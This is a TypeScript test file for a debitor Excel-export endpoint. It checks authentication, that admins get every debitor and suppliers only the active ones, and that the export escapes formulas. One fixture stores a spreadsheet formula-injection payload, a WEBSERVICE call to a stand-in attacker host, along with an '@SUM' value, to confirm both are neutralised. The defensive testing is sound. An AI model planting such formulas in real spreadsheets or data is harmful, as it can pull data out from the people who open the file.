import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { createDebitor, createUser } from '../../../test/factories';
import { ADMIN_EMAIL, useTestApp } from '../../../test/test-app';

const t = useTestApp();
const url = '/api/debitors/export';
const HEADER = ['Debitornummer', 'Name', 'Straße und Hausnummer', 'PLZ', 'Ort', 'Aktiv'];

async function readSheet(payload: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  expect(workbook.worksheets.map((s) => s.name)).toEqual(['Debitoren']);
  const rows: unknown[][] = [];
  workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('GET /api/debitors/export', () => {
  it('needs a token', async () => {
    expect((await t.request(undefined, { method: 'GET', url })).statusCode).toBe(401);
  });

  it('gives admins every debitor as Debitoren.xlsx, formula-safe', async () => {
    const formula = await createDebitor(t.db, {
      name: '=WEBSERVICE("http://evil.example")',
      city: '@SUM(1)',
    });
    const inactive = await createDebitor(t.db, { isActive: false });

    const res = await t.request(await t.login(ADMIN_EMAIL), { method: 'GET', url });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Debitoren.xlsx"; filename*=UTF-8''Debitoren.xlsx`,
    );
    const rows = await readSheet(res.rawPayload);
    expect(rows[0]).toEqual(HEADER);
    const byNumber = new Map(rows.slice(1).map((r) => [r[0], r]));
    expect(byNumber.get(formula.number)).toEqual([
      formula.number,
      `'${formula.name}`,
      formula.street,
      formula.zipCode,
      "'@SUM(1)",
      'ja',
    ]);
    expect(byNumber.get(inactive.number)?.[5]).toBe('nein');
    expect(byNumber.get(999999)?.[1]).toBe('Leermeldung');
  });

  it('gives suppliers the active debitors only', async () => {
    const active = await createDebitor(t.db);
    const inactive = await createDebitor(t.db, { isActive: false });
    const supplier = await createUser(t.db);
    const res = await t.request(await t.login(supplier.emailAddress), { method: 'GET', url });
    expect(res.statusCode).toBe(200);
    const rows = await readSheet(res.rawPayload);
    expect(rows[0]).toEqual(HEADER);
    const numbers = rows.slice(1).map((r) => r[0]);
    expect(numbers).toContain(active.number);
    expect(numbers).not.toContain(inactive.number);
    // The reserved empty-report debitor is no customer a supplier delivers to.
    expect(numbers).not.toContain(999999);
    expect(rows.slice(1).every((r) => r[5] === 'ja')).toBe(true);
  });
});
